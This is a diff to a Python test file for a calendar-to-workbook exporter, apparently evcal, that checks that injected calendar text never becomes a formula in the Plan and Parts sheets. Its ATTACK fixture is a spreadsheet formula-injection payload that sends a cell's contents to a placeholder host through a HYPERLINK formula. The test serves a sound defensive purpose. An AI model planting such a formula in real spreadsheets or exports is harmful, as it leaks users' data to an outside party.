@@ -38,12 +38,13 @@ ATTACK = '=HYPERLINK("http://x.example/?q="&A1,"click")'
 
 
 def _formula_cells(path: Path) -> list[str]:
-    """Formula cells that evcal did not write as one (the Plan sheet's own: evcal.plan.workbook_plan)."""
-    from evcal.plan.workbook_plan import is_own_formula
+    """Formula cells that evcal did not write as one (the Plan and Parts sheets' own:
+    evcal.plan.workbook_plan)."""
+    from evcal.plan.workbook_plan import FORMULA_SHEETS, is_own_formula
 
     wb = load_workbook(path)
     return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row
-            if c.data_type == "f" and not (ws.title == "Plan" and is_own_formula(str(c.value)))]
+            if c.data_type == "f" and not (ws.title in FORMULA_SHEETS and is_own_formula(str(c.value)))]
 
 
 @pytest.fixture(scope="module")
@@ -68,8 +69,9 @@ def test_calendar_text_never_becomes_a_formula_in_the_plan_workbook(attacked_mod
     assert _formula_cells(out) == []
     wb = load_workbook(out)
     texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.value == ATTACK]
-    # the text reads the same, unquoted: Lifts (event, label), each occurrence, the Plan sheet's header
-    assert len(texts) == 3 + len(res.occurrences)
+    # the text reads the same, unquoted: Lifts (event, label), each occurrence, the Plan sheet's header,
+    # the Parts sheet's header
+    assert len(texts) == 4 + len(res.occurrences)
     codes = next(r for r in wb["Plan"].values if r[0] == "date")  # the hidden row of plan.csv's names
     assert f"lift:{ATTACK}" in codes
 
